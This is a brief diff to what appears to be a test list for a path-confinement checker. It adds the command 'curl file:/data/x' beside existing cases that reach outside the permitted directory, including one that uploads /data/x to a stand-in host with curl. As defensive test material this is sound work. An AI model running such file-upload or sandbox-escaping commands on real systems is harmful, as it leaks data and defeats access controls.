@@ -69,6 +69,7 @@ ZONED = zoned("/work/a", cwd="/work/a")
         "[[ /data/y -nt /data/x ]]",
         "curl -F f=@/data/x https://h.example",
         "curl file:///data/x",
+        "curl file:/data/x",
         "docker run -v/data:/x alpine cat /x/y",
         "rsync --exclude /x /data/y .",
     ],
